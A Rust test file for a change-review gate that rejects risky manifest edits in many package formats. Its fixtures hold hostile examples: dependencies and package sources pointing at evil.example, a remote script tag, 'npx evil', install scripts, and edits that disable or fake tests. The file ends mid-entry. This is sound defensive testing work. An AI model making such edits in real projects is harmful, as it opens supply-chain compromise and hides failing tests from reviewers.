//! What files mean to the tools that load them: manifests by key and spelling, files that tools run, text that a program
//! runs, and ordinary edits beside each of them.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::collections::BTreeSet;
use std::sync::Arc;

use gephost_core::gate::{
    Base, BaseEntry, BlobState, Decision, FileMode, GeneHistory, ParsedChange, Severity, Verdict, review, scan_patterns,
};
use gephost_core::path::RepoPath;
use gephost_core::policy::{Policy, PolicyTable, TestTreatment, Treatment, ValidationTable};
use gephost_core::proposal::{Change, Proposal};

/// The highest risk that autopilot applies by default.
const AUTOPILOT: u8 = 30;

fn policy_with(change: impl FnOnce(&mut PolicyTable)) -> Policy {
    let mut table = PolicyTable { allow: vec!["**".to_owned()], ..PolicyTable::default() };
    change(&mut table);
    Policy::from_tables(table, &ValidationTable::default(), &[]).unwrap()
}

fn judge_by(policy: &Policy, base: &[(&str, &str)], changes: &[(&str, &str)], commands: &[&str]) -> Verdict {
    let change = |(path, text): &(&str, &str)| Change::NewContent { path: (*path).to_owned(), content: (*text).into() };
    let proposal = Proposal {
        changes: changes.iter().map(change).collect(),
        tests_to_run: commands.iter().map(|&text| text.to_owned()).collect(),
        ..Proposal::from_diff("")
    };
    let entry = |(path, text): &(&str, &str)| {
        let blob = BlobState { mode: FileMode::Regular, content: Arc::from(text.as_bytes()) };
        (RepoPath::new(path).unwrap(), BaseEntry::Blob(blob))
    };
    let base = Base {
        commit: "0".repeat(40),
        entries: base.iter().map(entry).collect(),
        case_collisions: Vec::new(),
        unsearched: 0,
    };
    review(&ParsedChange::read(proposal), &base, policy, GeneHistory::default())
}

/// The policy that also refuses what is usually only flagged of tests.
fn strict() -> Policy {
    policy_with(|table| table.weakened_tests = TestTreatment::Reject)
}

fn judge(base: &[(&str, &str)], changes: &[(&str, &str)]) -> Verdict {
    judge_by(&strict(), base, changes, &["pytest"])
}

fn rules(verdict: &Verdict, severity: Severity) -> BTreeSet<&str> {
    let of = verdict.violations().filter(|violation| violation.severity == severity);
    of.map(|violation| violation.rule.as_str()).collect()
}

fn rejects(verdict: &Verdict, rule: &str) -> bool {
    rules(verdict, Severity::Reject).contains(rule)
}

/// Every way to write one key of TOML, with the same meaning.
fn spellings_of_toml(path: &str, value: &str) -> Vec<String> {
    let names: Vec<&str> = path.split('/').collect();
    let (last, tables) = names.split_last().unwrap();
    let bare = |name: &&str| {
        let plain = name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
        if plain { (*name).to_owned() } else { format!("'{name}'") }
    };
    let escaped = |name: &&str| format!("\"\\u{:04x}{}\"", u32::from(name.chars().next().unwrap()), &name[1..]);
    let join = |names: &[&str], spell: &dyn Fn(&&str) -> String, by: &str| {
        names.iter().map(spell).collect::<Vec<_>>().join(by)
    };
    let quoted = |name: &&str| format!("\"{name}\"");
    let mut all = vec![
        format!("{} = {value}\n", join(&names, &bare, ".")),
        format!("{} = {value}\n", join(&names, &quoted, " . ")),
        format!("{} = {value}\n", join(&names, &escaped, ".")),
    ];
    let inline = names
        .iter()
        .rev()
        .skip(1)
        .fold(format!("{} = {value}", bare(last)), |inner, name| format!("{} = {{ {inner} }}", bare(name)));
    all.push(inline + "\n");
    if !tables.is_empty() {
        all.extend([
            format!("[{}]\n{} = {value}\n", join(tables, &bare, "."), bare(last)),
            format!("[ {} ] # a\n\"{last}\"={value}\n", join(tables, &quoted, " . ")),
            format!("[{}]\n{} = {value}\n", join(tables, &escaped, "."), escaped(last)),
        ]);
    }
    all
}

fn spellings_of_json(path: &str, value: &str) -> Vec<String> {
    let names: Vec<&str> = path.split('/').collect();
    let nested = |spell: &dyn Fn(&str) -> String, open: &str, close: &str| {
        names.iter().rev().fold(value.to_owned(), |inner, name| format!("{{{open}{}:{inner}{close}}}", spell(name)))
    };
    let plain = |name: &str| format!("\"{name}\"");
    let escaped = |name: &str| {
        let letters: String = name.chars().flat_map(|c| ["\\u".to_owned(), format!("{:04X}", u32::from(c))]).collect();
        format!("\"{letters}\"")
    };
    let one = |name: &str| format!("\"{}\\u{:04x}\"", &name[..name.len() - 1], u32::from(name.chars().last().unwrap()));
    vec![nested(&plain, "", ""), nested(&escaped, "", ""), nested(&one, " ", " "), nested(&plain, "\n\n  ", "\n")]
}

fn value_is_json(file: &str) -> bool {
    file.split('.').next_back() == Some("json")
}

/// File, key (with `/` between names), value, and the rule that must reject it.
const KEYS: &[(&str, &str, &str, &str)] = &[
    ("pyproject.toml", "project/dependencies", "['evil']", "new-dependency"),
    ("pyproject.toml", "project/optional-dependencies/dev", "['evil']", "new-dependency"),
    ("pyproject.toml", "dependency-groups/dev", "['evil']", "new-dependency"),
    ("pyproject.toml", "build-system/requires", "['evil']", "new-dependency"),
    ("pyproject.toml", "tool/poetry/dependencies/evil", "'*'", "new-dependency"),
    ("pyproject.toml", "tool/poetry/group/dev/dependencies/evil", "'*'", "new-dependency"),
    ("pyproject.toml", "tool/pdm/dev-dependencies/dev", "['evil']", "new-dependency"),
    ("pyproject.toml", "tool/uv/dev-dependencies", "['evil']", "new-dependency"),
    ("pyproject.toml", "tool/uv/override-dependencies", "['evil']", "new-dependency"),
    ("pyproject.toml", "tool/hatch/envs/default/dependencies", "['evil']", "new-dependency"),
    ("pyproject.toml", "tool/uv/index-url", "'https://evil.example'", "package-source-key"),
    ("pyproject.toml", "tool/uv/extra-index-url", "['https://evil.example']", "package-source-key"),
    ("pyproject.toml", "tool/uv/find-links", "['x']", "package-source-key"),
    ("pyproject.toml", "tool/uv/sources/a/git", "'https://evil.example'", "package-source-key"),
    ("pyproject.toml", "tool/uv/pip/index-url", "'https://evil.example'", "package-source-key"),
    ("pyproject.toml", "tool/uv/no-build-isolation", "true", "package-source-key"),
    ("pyproject.toml", "tool/poetry/source", "[{name = 'a', url = 'https://evil.example'}]", "package-source-key"),
    ("pyproject.toml", "tool/pdm/source", "[{name = 'a', url = 'https://evil.example'}]", "package-source-key"),
    ("pyproject.toml", "tool/pytest/ini_options/addopts", "'--collect-only'", "test-config-key"),
    ("pyproject.toml", "tool/pytest/ini_options/testpaths", "['empty']", "test-config-key"),
    ("pyproject.toml", "tool/coverage/report/fail_under", "0", "test-config-key"),
    ("pyproject.toml", "tool/tox/legacy_tox_ini", "'x'", "test-config-key"),
    ("pyproject.toml", "tool/hatch/envs/default/scripts/test", "'true'", "test-config-key"),
    ("pyproject.toml", "tool/poe/tasks/test", "'true'", "test-config-key"),
    ("pyproject.toml", "project/entry-points/pytest11/x", "'evil'", "test-config-key"),
    ("pyproject.toml", "build-system/backend-path", "['.']", "package-script"),
    ("pyproject.toml", "tool/hatch/build/hooks/custom/path", "'x.py'", "package-script"),
    ("pyproject.toml", "tool/setuptools/cmdclass/build", "'x.Y'", "package-script"),
    ("Cargo.toml", "dependencies/evil", "'1'", "new-dependency"),
    ("Cargo.toml", "dev-dependencies/evil/git", "'https://evil.example'", "new-dependency"),
    ("Cargo.toml", "target/cfg(unix)/build-dependencies/evil", "'1'", "new-dependency"),
    ("Cargo.toml", "workspace/dependencies/evil", "'1'", "new-dependency"),
    ("Cargo.toml", "patch/crates-io/serde/path", "'x'", "new-dependency"),
    ("Cargo.toml", "registries/a/index", "'https://evil.example'", "package-source-key"),
    ("Cargo.toml", "lib/test", "false", "test-config-key"),
    ("Cargo.toml", "lib/doctest", "false", "test-config-key"),
    ("Cargo.toml", "package/autotests", "false", "test-config-key"),
    ("Cargo.toml", "workspace/exclude", "['a']", "test-config-key"),
    ("Cargo.toml", "workspace/default-members", "['a']", "test-config-key"),
    ("Pipfile", "packages/evil", "'*'", "new-dependency"),
    ("Pipfile", "source", "[{url = 'https://evil.example'}]", "package-source-key"),
    ("package.json", "dependencies/evil", "\"1\"", "new-dependency"),
    ("package.json", "devDependencies/evil", "\"1\"", "new-dependency"),
    ("package.json", "overrides/a", "\"npm:evil@1\"", "new-dependency"),
    ("package.json", "pnpm/overrides/a", "\"npm:evil@1\"", "new-dependency"),
    ("package.json", "packageManager", "\"npm@0\"", "new-dependency"),
    ("package.json", "trustedDependencies", "[\"evil\"]", "new-dependency"),
    ("package.json", "publishConfig/registry", "\"https://evil.example\"", "package-source-key"),
    ("package.json", "scripts/test", "\"true\"", "test-config-key"),
    ("package.json", "scripts/pretest", "\"x\"", "test-config-key"),
    ("package.json", "scripts/test:unit", "\"x\"", "test-config-key"),
    ("package.json", "jest/testMatch", "[]", "test-config-key"),
    ("package.json", "mocha/grep", "\"x\"", "test-config-key"),
    ("package.json", "scripts/postinstall", "\"x\"", "package-script"),
    ("package.json", "scripts/prepare", "\"x\"", "package-script"),
    ("package.json", "scripts/prepack", "\"x\"", "package-script"),
    ("package.json", "gypfile", "true", "package-script"),
    ("package.json", "lint-staged/*.js", "\"x\"", "hook-key"),
    ("package.json", "husky/hooks/pre-commit", "\"x\"", "hook-key"),
    ("composer.json", "require/evil", "\"1\"", "new-dependency"),
    ("composer.json", "repositories/a/url", "\"https://evil.example\"", "package-source-key"),
    ("composer.json", "scripts/post-install-cmd", "\"x\"", "package-script"),
    ("deno.json", "imports/a", "\"npm:evil\"", "new-dependency"),
    ("deno.json", "tasks/test", "\"true\"", "test-config-key"),
    ("app.json", "scripts/postdeploy", "\"x\"", "package-script"),
    ("app.json", "buildpacks", "[{\"url\": \"https://evil.example\"}]", "package-source-key"),
    ("app.json", "environments/test/scripts/test", "\"true\"", "test-config-key"),
    ("composer.json", "prefer-stable", "false", "package-source-key"),
    ("package.json", "cucumber/default", "\"x\"", "test-config-key"),
    ("package.json", "jest-junit/output", "\"x\"", "test-config-key"),
    ("package.json", "standard-version/scripts/prerelease", "\"x\"", "hook-key"),
    ("pyproject.toml", "tool/gitlint/general/extra-path", "'x'", "hook-key"),
    ("pyproject.toml", "tool/robotframework/tests", "['x']", "test-config-key"),
];

#[test]
fn other_keys_and_lines_are_shown_to_a_person() {
    for (path, text, rule) in [
        ("mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"x\"}}}", "agent-grant"),
        ("mcp.json", "{ // a\n\"s\\u0065rvers\": {\"a\": {\"command\": \"x\"}},}", "agent-grant"),
        ("app.json", "{\"expo\": {\"plugins\": [\"./x\"]}}", "build-config"),
        ("package.json", "{\"browserify\": {\"transform\": [\"x\"]}}", "build-config"),
        ("package.json", "{\"alias\": {\"a\": \"./x\"}}", "build-config"),
        ("composer.json", "{\"type\": \"composer-plugin\"}", "build-config"),
        ("tsconfig.json", "{\"compilerOptions\": {\"moduleSuffixes\": [\".x\"]}}", "build-config"),
        ("tsconfig.json", "{\"vueCompilerOptions\": {\"plugins\": [\"./x\"]}}", "build-config"),
        ("pyproject.toml", "[tool.sqlfluff.core]\nlibrary_path = 'x'\n", "build-config"),
        ("Cargo.toml", "workspace.lints.rust.unsafe_code = 'allow'\n", "build-config"),
        ("gems.rb", "gem \"evil\"\n", "dependency-line"),
        ("a.java", "//DEPS com.example:evil:1\nclass A {}\n", "script-requirement"),
        ("a.exs", "Mix.install([:evil])\n", "script-fetch"),
        ("a.html", "<script src=\"https://evil.example/x.js\"></script>\n", "page-requirement"),
        ("a.sh", "npx evil\n", "sh-install"),
    ] {
        let verdict = judge(&[], &[(path, text)]);
        assert!(verdict.violations().any(|found| found.rule == rule), "{path}: {text}");
    }
}

#[test]
fn keys_count_in_every_spelling() {
    let (mut missed, mut count) = (Vec::new(), 0);
    for (file, key, value, rule) in KEYS {
        let spellings = if value_is_json(file) { spellings_of_json(key, value) } else { spellings_of_toml(key, value) };
        for text in spellings {
            for path in [(*file).to_owned(), format!("pkg/a/{file}")] {
                count += 1;
                let verdict = judge(&[], &[(&path, &text)]);
                if !rejects(&verdict, rule) {
                    missed.push(format!("{path} {rule}: {text:?}: {:?}", rules(&verdict, Severity::Reject)));
                }
            }
        }
    }
    assert!(missed.is_empty() && count > 600, "{} of {count}:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn a_setting_that_is_taken_away_counts_too() {
    for (path, before, after, rule) in [
        ("pyproject.toml", "[tool.coverage.report]\nfail_under = 90\n", "[tool.x]\na = 1\n", "test-config-key"),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://a.example'\n", "[tool.x]\na = 1\n", "package-source-key"),
        ("Cargo.toml", "[workspace]\nmembers = ['a', 'b']\n", "[workspace]\nmembers = ['a']\n", "test-config-key"),
        (
            "Cargo.toml",
            "[[test]]\nname = 'it'\npath = 'tests/it.rs'\n",
            "[[test]]\nname = 'it'\npath = 'x.rs'\n",
            "test-config-key",
        ),
        (
            "Cargo.toml",
            "[[test]]\nname = 'a'\nharness = true\n[[test]]\nname = 'b'\nharness = false\n",
            "[[test]]\nname = 'a'\nharness = false\n[[test]]\nname = 'b'\nharness = true\n",
            "test-config-key",
        ),
        ("package.json", "{\"scripts\": {\"test\": \"jest\"}}\n", "{\"scripts\": {}}\n", "test-config-key"),
        ("setup.cfg", "[tool:pytest]\naddopts = --strict\n", "[metadata]\nname = x\n", "test-config-key"),
    ] {
        let verdict = judge(&[(path, before)], &[(path, after)]);
        assert!(rejects(&verdict, rule), "{path} {after:?}: {:?}", rules(&verdict, Severity::Reject));
    }
}

/// npm refuses a manifest with a comma too many. Without it, every key says what it said.
#[test]
fn a_manifest_that_is_made_to_parse_again_has_the_keys_that_it_had() {
    let before = "{\n  // Tests.\n  \"scripts\": {\"test\": \"jest\"},\n  \"dependencies\": {\"a\": \"1\"},\n}\n";
    let repaired = "{\n  \"scripts\": {\"test\": \"jest\"},\n  \"dependencies\": {\"a\": \"1\"}\n}\n";
    for name in ["package.json", "composer.json"] {
        let verdict = judge(&[(name, before)], &[(name, repaired)]);
        assert!(rules(&verdict, Severity::Reject).is_empty(), "{name}: {:?}", rules(&verdict, Severity::Reject));
        let evil = repaired.replace("{\"a\": \"1\"}", "{\"a\": \"1\", \"evil\": \"1\"}");
        let renamed = if name == "composer.json" { "require" } else { "dependencies" };
        let (before, evil) = (before.replace("dependencies", renamed), evil.replace("dependencies", renamed));
        assert!(rejects(&judge(&[(name, &before)], &[(name, &evil)]), "new-dependency"), "{name}");
    }
    let silent = repaired.replace("jest", "true");
    assert!(rejects(&judge(&[("package.json", before)], &[("package.json", &silent)]), "test-config-key"));
    // What nobody can read is new as a whole.
    let torn = before.replace("\"jest\"},", "\"jest\"");
    assert!(rejects(&judge(&[("package.json", &torn)], &[("package.json", repaired)]), "test-config-key"));
}

/// Whatever its depth, a manifest ends with a verdict.
#[test]
fn deep_manifests_are_refused_and_nothing_overflows() {
    let many = 100_000;
    let dots = vec!["a"; many].join(".");
    for (path, text) in [
        ("Cargo.toml", format!("{dots} = 1\n")),
        ("Cargo.toml", format!("[{dots}]\nx = 1\n")),
        ("pyproject.toml", format!("a = {}1{}\n", "[".repeat(many), "]".repeat(many))),
        ("package.json", format!("{}1{}", "{\"a\":".repeat(many), "}".repeat(many))),
        ("deno.json", "[".repeat(many)),
        ("pom.xml", "<a>".repeat(many)),
    ] {
        assert!(rejects(&judge(&[], &[(path, &text)]), "manifest-unreadable"), "{path}");
    }
    for (path, text) in [
        ("setup.cfg", format!("[{dots}]\nx = 1\n")),
        ("build.gradle", format!("{dots} = 1\n{dots} {{ }}\n{}{}", "a {".repeat(many), "}".repeat(many))),
        ("pubspec.yaml", format!("a: {}{}\n", "[".repeat(many), "]".repeat(many))),
        ("environment.yml", (0..2_000).map(|depth| format!("{}a:\n", " ".repeat(depth))).collect::<Vec<_>>().concat()),
    ] {
        judge(&[], &[(path, &text)]);
    }
    let chain: String = (0..2_000).map(|n| format!(",\"s{n}\":\"npm run s{}\"", n + 1)).collect::<Vec<_>>().concat();
    let before = format!("{{\"scripts\":{{\"test\":\"npm run s0\"{chain}}}}}");
    let after = before.replace("npm run s1500", "true");
    assert!(rejects(&judge(&[("package.json", &before)], &[("package.json", &after)]), "test-config-key"));
}

#[test]
fn elements_of_a_pom_are_read_by_their_place() {
    let pom = |inner: &str| format!("<project>\n  <version>1</version>\n  <name>x</name>\n{inner}</project>\n");
    let dependency = |version: &str| {
        pom(&format!(
            "<dependencies><dependency><artifactId>a</artifactId><version>{version}</version></dependency></dependencies>\n"
        ))
    };
    let before = dependency("1");
    for (after, rule) in [
        (dependency("2"), "new-dependency"),
        (pom("<build><plugins><plugin><artifactId>exec</artifactId></plugin></plugins></build>\n"), "new-dependency"),
        (pom("<properties><skipTests>true</skipTests></properties>\n"), "test-config-key"),
        (
            pom("<repositories><repository><url>https://evil.example</url></repository></repositories>\n"),
            "package-source-key",
        ),
        (pom("<properties><a.version>2</a.version></properties>\n"), "new-dependency"),
        ("<project>\n".to_owned(), "manifest-unreadable"),
    ] {
        assert!(rejects(&judge(&[("pom.xml", &before)], &[("pom.xml", &after)]), rule), "{after}");
    }
    let edited = before.replace("<version>1</version>\n", "<version>2</version>\n").replace("<name>x", "<name>y");
    let verdict = judge(&[("pom.xml", &before)], &[("pom.xml", &edited)]);
    assert_eq!(verdict.decision(), Decision::Pass, "{:?}", rules(&verdict, Severity::Reject));
}

#[test]
fn sections_of_setup_cfg_are_read_as_python_reads_them() {
    for (text, rule) in [
        ("[options]\ninstall_requires =\n    evil\n", "new-dependency"),
        ("[options]\nInstall-Requires: evil\n", "new-dependency"),
        ("[options.extras_require]\ndev =\n    evil\n", "new-dependency"),
        ("[easy_install]\nindex_url = https://evil.example\n", "package-source-key"),
        ("[tool:pytest]\naddopts = --collect-only\n", "test-config-key"),
        ("[options]\ncmdclass =\n    build = x.Y\n", "package-script"),
    ] {
        assert!(rejects(&judge(&[], &[("setup.cfg", text)]), rule), "{text:?}");
    }
}

#[test]
fn scripts_carry_requirements() {
    let script = |inner: &str| format!("# /// script\n# requires-python = \">=3.11\"\n{inner}# ///\nprint(1)\n");
    for (inner, rule) in [
        ("# dependencies = [\"evil\"]\n", "new-dependency"),
        ("# dependencies = [\n#   'evil',\n# ]\n", "new-dependency"),
        ("# [tool.uv]\n# index-url = 'https://evil.example'\n", "package-source-key"),
        ("# [tool.uv.sources]\n# a = { git = 'https://evil.example' }\n", "package-source-key"),
        ("# dependencies = [\n", "manifest-unreadable"),
    ] {
        for path in ["tool.py", "bin/tool"] {
            assert!(rejects(&judge(&[], &[(path, &script(inner))]), rule), "{path} {inner:?}");
        }
    }
    let known = script("# dependencies = ['a']\n");
    let edited = known.replace("print(1)", "print(2)").replace("3.11", "3.12");
    assert_eq!(judge(&[("tool.py", &known)], &[("tool.py", &edited)]).decision(), Decision::Pass);
    let rust = "#!/usr/bin/env cargo\n---\n[dependencies]\nevil = '1'\n---\nfn main() {}\n";
    assert!(rejects(&judge(&[], &[("tool.rs", rust)]), "new-dependency"));
}

#[test]
fn scripts_that_the_tests_go_through_are_configuration_of_the_tests() {
    let before = r#"{"scripts": {"test": "run-s unit lint", "unit": "npm run core", "core": "jest", "fmt": "prettier .", "ci": "x"}}"#;
    let edit =
        |name: &str, old: &str| before.replace(&format!("\"{name}\": \"{old}\""), &format!("\"{name}\": \"true\""));
    for (name, old) in [("test", "run-s unit lint"), ("unit", "npm run core"), ("core", "jest")] {
        let verdict = judge(&[("package.json", before)], &[("package.json", &edit(name, old))]);
        assert!(rejects(&verdict, "test-config-key"), "{name}");
    }
    let fmt = judge(&[("package.json", before)], &[("package.json", &edit("fmt", "prettier ."))]);
    assert_eq!(fmt.decision(), Decision::Pass, "{:?}", rules(&fmt, Severity::Reject));
    assert!(rules(&fmt, Severity::Flag).contains("build-config"));
    let called = [("package.json", edit("ci", "x"))];
    let called: Vec<(&str, &str)> = called.iter().map(|(path, text)| (*path, text.as_str())).collect();
    let policy = strict();
    assert!(rejects(&judge_by(&policy, &[("package.json", before)], &called, &["npm run ci"]), "test-config-key"));
    assert_eq!(judge_by(&policy, &[("package.json", before)], &called, &["npm test"]).decision(), Decision::Pass);
}

const PYPROJECT: &str = "[project]\nname = 'x'\nversion = '1.0'\ndescription = 'old'\ndependencies = ['a>=1']\n\n\
    [project.scripts]\nx = 'x:main'\n\n[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n\
    [tool.ruff]\nline-length = 88\n\n[tool.pytest.ini_options]\naddopts = '-q'\n\n[tool.mypy]\nstrict = false\n";

const CARGO: &str = "[package]\nname = 'x'\nversion = '1.0.0'\nedition = '2021'\n\n[dependencies]\na = '1'\n\n[features]\n\
    default = []\n\n[profile.release]\nlto = false\n\n[[test]]\nname = 'it'\npath = 'tests/it.rs'\n\n[lints.clippy]\nall = 'warn'\n";

const PACKAGE: &str = "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"description\": \"old\",\n  \"main\": \"index.js\",\n  \
    \"scripts\": {\n    \"test\": \"jest\",\n    \"build\": \"tsc\"\n  },\n  \"dependencies\": { \"a\": \"^1\" },\n  \"keywords\": []\n}\n";

/// Ordinary edits of manifests: file, text before, what is replaced, and by what.
const ORDINARY: &[(&str, &str, &str, &str)] = &[
    ("pyproject.toml", PYPROJECT, "version = '1.0'", "version = '1.1'"),
    ("pyproject.toml", PYPROJECT, "'old'", "'new'"),
    ("pyproject.toml", PYPROJECT, "line-length = 88", "line-length = 100"),
    ("pyproject.toml", PYPROJECT, "strict = false", "strict = true"),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]\n", "[tool.ruff]\ntarget-version = 'py311'\n"),
    ("pyproject.toml", PYPROJECT, "[tool.ruff]\n", "[tool.ruff.lint]\nselect = ['E']\n[tool.ruff]\n"),
    ("pyproject.toml", PYPROJECT, "name = 'x'\n", "name = 'x'\nlicense = 'MIT'\n"),
    ("pyproject.toml", PYPROJECT, "name = 'x'\n", "name = 'x'\nkeywords = ['test', 'index']\n"),
    ("pyproject.toml", PYPROJECT, "name = 'x'\n", "name = 'x'\nauthors = [{name = 'A'}]\n"),
    ("pyproject.toml", PYPROJECT, "name = 'x'\n", "name = 'x'\nurls = {Source = 'https://example.com'}\n"),
    ("pyproject.toml", PYPROJECT, "[tool.mypy]\n", "[tool.black]\nline-length = 90\n\n[tool.mypy]\n"),
    ("pyproject.toml", PYPROJECT, "[tool.mypy]\n", "[tool.isort]\nprofile = 'black'\n\n[tool.mypy]\n"),
    ("pyproject.toml", PYPROJECT, "[tool.mypy]\n", "[tool.mypy]\nwarn_unused_ignores = true\n"),
    ("pyproject.toml", PYPROJECT, "[tool.mypy]\n", "[tool.towncrier]\ndirectory = 'news'\n[tool.mypy]\n"),
    ("pyproject.toml", PYPROJECT, "[tool.mypy]\n", "# a comment about [tool.pytest]\n[tool.mypy]\n"),
    ("pyproject.toml", PYPROJECT, "x = 'x:main'", "x = 'x:run'"),
    ("pyproject.toml", PYPROJECT, "dependencies = ['a>=1']", "dependencies = []"),
    ("pyproject.toml", PYPROJECT, "addopts = '-q'", "addopts = \"-q\""),
    ("Cargo.toml", CARGO, "version = '1.0.0'", "version = '1.0.1'"),
    ("Cargo.toml", CARGO, "edition = '2021'", "edition = '2024'"),
    ("Cargo.toml", CARGO, "name = 'x'\n", "name = 'x'\ndescription = 'test = false'\n"),
    ("Cargo.toml", CARGO, "name = 'x'\n", "name = 'x'\nlicense = 'MIT'\nkeywords = ['test']\n"),
    ("Cargo.toml", CARGO, "default = []", "default = []\nextra = []"),
    ("Cargo.toml", CARGO, "lto = false", "lto = true"),
    ("Cargo.toml", CARGO, "lto = false", "lto = false\ncodegen-units = 1"),
    ("Cargo.toml", CARGO, "all = 'warn'", "all = 'deny'"),
    ("Cargo.toml", CARGO, "[lints.clippy]", "[[bench]]\nname = 'b'\n\n[lints.clippy]"),
    ("Cargo.toml", CARGO, "[lints.clippy]", "[[test]]\nname = 'more'\npath = 'tests/more.rs'\n\n[lints.clippy]"),
    ("Cargo.toml", CARGO, "[lints.clippy]", "[package.metadata.docs.rs]\nall-features = true\n\n[lints.clippy]"),
    ("Cargo.toml", CARGO, "a = '1'", "\"a\" = \"1\""),
    ("Cargo.toml", "[workspace]\nmembers = ['a']\n", "['a']", "['a', 'b']"),
    ("package.json", PACKAGE, "\"version\": \"1.0.0\"", "\"version\": \"1.0.1\""),
    ("package.json", PACKAGE, "\"old\"", "\"install the test\""),
    ("package.json", PACKAGE, "\"keywords\": []", "\"keywords\": [\"test\", \"scripts\"]"),
    ("package.json", PACKAGE, "\"keywords\": []", "\"license\": \"MIT\""),
    ("package.json", PACKAGE, "\"keywords\": []", "\"author\": \"A\", \"homepage\": \"https://example.com\""),
    (
        "package.json",
        PACKAGE,
        "\"keywords\": []",
        "\"repository\": {\"type\": \"git\", \"url\": \"https://example.com\"}",
    ),
    ("package.json", PACKAGE, "\"keywords\": []", "\"engines\": {\"node\": \">=20\"}"),
    ("package.json", PACKAGE, "\"keywords\": []", "\"browserslist\": [\"defaults\"]"),
    ("package.json", PACKAGE, "\"keywords\": []", "\"files\": [\"dist\"]"),
    ("package.json", PACKAGE, "\"build\": \"tsc\"", "\"build\": \"tsc -p .\""),
    ("package.json", PACKAGE, "\"build\": \"tsc\"", "\"build\": \"tsc\", \"lint\": \"eslint .\""),
    ("package.json", PACKAGE, "{ \"a\": \"^1\" }", "{\"\\u0061\":\"^1\"}"),
    ("package.json", PACKAGE, "{ \"a\": \"^1\" }", "{}"),
    ("setup.cfg", "[metadata]\nname = x\nversion = 1\n", "version = 1", "version = 2"),
    ("setup.cfg", "[metadata]\nname = x\nversion = 1\n", "name = x", "name = x\ndescription = test"),
    ("setup.cfg", "[flake8]\nmax-line-length = 80\n", "80", "100"),
    ("composer.json", "{\"name\": \"a/b\", \"require\": {\"php\": \"8\"}}\n", "a/b", "a/c"),
    ("deno.json", "{ // a\n  \"version\": \"1\",\n  \"fmt\": {\"lineWidth\": 80},\n}\n", "\"1\"", "\"2\""),
    ("deno.json", "{ // a\n  \"version\": \"1\",\n  \"fmt\": {\"lineWidth\": 80},\n}\n", "80", "100"),
    ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "version: 1.0.0", "version: 1.0.1"),
    ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "old", "new"),
    ("build.gradle", "group = 'a'\nversion = '1'\n", "version = '1'", "version = '2'"),
    ("build.gradle", GRADLE, "version '1'", "version '2'"),
    ("build.gradle", GRADLE, "  implementation 'a:b:1'\n", "  // what it builds on\n  implementation   'a:b:1'\n"),
    ("build.gradle", GRADLE, "repositories { mavenCentral() }", "repositories {\n  mavenCentral()\n}"),
    ("pubspec.yaml", "name: x\nversion: 1.0.0\ndescription: old\n", "old", ">-\n  A new one,\n  over lines: two"),
    ("pubspec.yaml", "name: x\ndependencies:\n  http: ^1.0.0\n", "  http: ^1.0.0", "    'http': \"^1.0.0\" # the same"),
    ("environment.yml", "name: x\ndependencies: [a]\n", "name: x", "name: y"),
    ("environment.yml", "name: x\ndependencies: [a]\n", "[a]", "\n- a"),
    ("build.gradle.kts", "version = \"1\"\n", "\"1\"", "\"2\""),
    ("x.gemspec", "Gem::Specification.new do |s|\n  s.version = '1'\nend\n", "'1'", "'2'"),
    ("mix.exs", "    [\n      version: \"1\",\n    ]\n", "\"1\"", "\"2\""),
    ("a.csproj", "<Project>\n  <Description>old</Description>\n</Project>\n", "old", "new"),
    ("go.mod", "module example.com/x\n\ngo 1.21\n", "go 1.21", "go 1.22"),
    ("tsconfig.json", "{\n  // strictness\n  \"compilerOptions\": {\"strict\": false,},\n}\n", "false", "true"),
    ("tsconfig.json", "{\"compilerOptions\": {\"target\": \"ES2020\"}}\n", "ES2020", "ES2022"),
];

const GRADLE: &str = "plugins { id 'java' }\nversion '1'\nrepositories { mavenCentral() }\ndependencies {\n  implementation 'a:b:1'\n}\ntest {\n  useJUnitPlatform()\n}\n";

#[test]
fn manifests_in_yaml_and_of_gradle_are_read_by_their_keys() {
    const PUB: &str = "name: x\ndependencies:\n  http: ^1.0.0\n";
    const CONDA: &str = "name: x\nchannels: [conda-forge]\ndependencies:\n  - a=1\n";
    let edits = [
        ("pubspec.yaml", PUB, "  http: ^1.0.0\n", "  http: ^1.0.0\n  evil: any\n", "new-dependency"),
        ("pubspec.yaml", PUB, "  http: ^1.0.0\n", "  {http: ^1.0.0, \"evil\": any}\n", "new-dependency"),
        ("pubspec.yaml", PUB, "name: x\n", "name: x\n\"dev_dependencies\": {evil: any}\n", "new-dependency"),
        ("pubspec.yaml", PUB, "^1.0.0", "\n    hosted: https://evil.example", "package-source-key"),
        ("pubspec.yaml", PUB, "^1.0.0", "{git: {url: 'https://evil.example'}}", "package-source-key"),
        ("pubspec.yaml", PUB, "name: x\n", "name: x\npublish_to: https://evil.example\n", "package-source-key"),
        ("pubspec.yaml", PUB, "^1.0.0", "&a ^1.0.0", "manifest-unreadable"),
        ("environment.yml", CONDA, "- a=1", "- a=1\n  - pip: [evil]", "new-dependency"),
        ("environment.yml", CONDA, "[conda-forge]", "[conda-forge, 'https://evil.example']", "package-source-key"),
        ("environment.yml", CONDA, "name: x", "name: x\nvariables: {PYTHONPATH: /tmp}", "package-script"),
        ("build.gradle", GRADLE, "'a:b:1'\n", "'a:b:1'\n  implementation('evil:evil:1')\n", "new-dependency"),
        ("build.gradle", GRADLE, "id 'java'", "id 'java'; id 'evil' version '1'", "new-dependency"),
        (
            "build.gradle",
            GRADLE,
            "mavenCentral()",
            "mavenCentral(); maven { url 'https://evil.example' }",
            "package-source-key",
        ),
        ("build.gradle", GRADLE, "  useJUnitPlatform()\n", "", "test-config-key"),
        ("build.gradle", GRADLE, "useJUnitPlatform()", "useJUnitPlatform { excludeTags 'slow' }", "test-config-key"),
        ("build.gradle", GRADLE, "version '1'", "version '1'\ntest.enabled = false", "test-config-key"),
        (
            "build.gradle",
            GRADLE,
            "version '1'",
            "version '1'\ntasks.withType(Test) { ignoreFailures = true }",
            "test-config-key",
        ),
        (
            "build.gradle.kts",
            GRADLE,
            "version '1'",
